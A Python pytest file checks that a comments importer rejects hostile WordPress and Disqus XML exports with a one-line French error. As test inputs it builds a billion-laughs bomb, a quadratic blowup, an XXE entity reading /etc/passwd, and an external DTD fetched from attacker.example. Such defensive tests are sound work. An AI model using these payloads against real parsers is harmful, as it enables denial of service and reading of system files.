"""Hostile and broken exports: refused fast, one French line naming the file, exit code 1."""

from __future__ import annotations

import time

import pytest

from comments import importers
from comments.model import CommentInputError
from tests.comments.conftest import plain, run_cli

WP = 'xmlns:wp="http://wordpress.org/export/1.2/"'
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + f"]>\n<rss {WP}><channel><item><wp:comment><wp:comment_content>&lol9;"
    "</wp:comment_content></wp:comment></item></channel></rss>\n"
)
QUADRATIC = (
    f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "{"x" * 100_000}">]>\n'
    f"<rss {WP}><channel><item><wp:comment><wp:comment_content>"
    + "&a;" * 100_000
    + "</wp:comment_content></wp:comment></item></channel></rss>\n"
)
EXTERNAL = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    f"<rss {WP}><channel><item><wp:comment><wp:comment_content>&xxe;"
    "</wp:comment_content></wp:comment></item></channel></rss>\n"
)
EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n<!DOCTYPE disqus SYSTEM "http://attacker.example/evil.dtd">\n'
    '<disqus xmlns="http://disqus.com"></disqus>\n'
)
HOSTILE = {
    "billion-laughs.xml": (BILLION_LAUGHS, "déclaration <!DOCTYPE rss> refusée"),
    "quadratic-blowup.xml": (QUADRATIC, "déclaration <!DOCTYPE rss> refusée"),
    "external-entity.xml": (EXTERNAL, "déclaration <!DOCTYPE rss> refusée"),
    "external-dtd.xml": (
        EXTERNAL_DTD,
        "déclaration <!DOCTYPE disqus> qui appelle « http://attacker.example/evil.dtd » refusée",
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_rejected_in_under_a_second(tmp_path, name):
    text, expected = HOSTILE[name]
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    started = time.perf_counter()
    with pytest.raises(CommentInputError) as refused:
        importers.read(path)
    assert time.perf_counter() - started < 1.0
    message = plain(str(refused.value))
    assert message.startswith(f"{path} : ") and expected in message
    assert "piégé" in message


def test_cli_refuses_bombs_with_exit_1_and_no_traceback(tmp_path, content):
    for name in ("billion-laughs.xml", "external-entity.xml"):
        path = tmp_path / name
        path.write_text(HOSTILE[name][0], encoding="utf-8")
        done = run_cli("comments-import", str(path), "--content", str(content))
        assert done.returncode == 1, done.stdout
        err = plain(done.stderr).strip()
        assert "Traceback" not in done.stderr and done.stdout == ""
        assert err.startswith(f"erreur : {path} : déclaration <!DOCTYPE rss> refusée")
        assert len(err.splitlines()) == 1
        assert not (content / "comments").exists()


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("coupe.xml", f"<rss {WP}><channel><item>", ":1 : XML illisible"),
        ("vide.json", "[{", "JSON illisible"),
        ("colonnes.csv", "auteur,texte\nAwa,Bonjour\n", ":1 : colonnes id, thread manquantes"),
        ("inconnu.bin", "\x00\x01binaire", "format inconnu"),
        ("autre.xml", "<html><body/></html>", "XML inconnu"),
    ],
)
def test_unreadable_files_get_one_french_line(tmp_path, name, text, expected):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    with pytest.raises(CommentInputError) as refused:
        importers.read(path)
    assert expected in plain(str(refused.value)) and str(path) in str(refused.value)


def test_missing_file(tmp_path, content):
    done = run_cli("comments-import", str(tmp_path / "absent.xml"), "--content", str(content))
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "absent.xml : fichier introuvable" in plain(done.stderr)
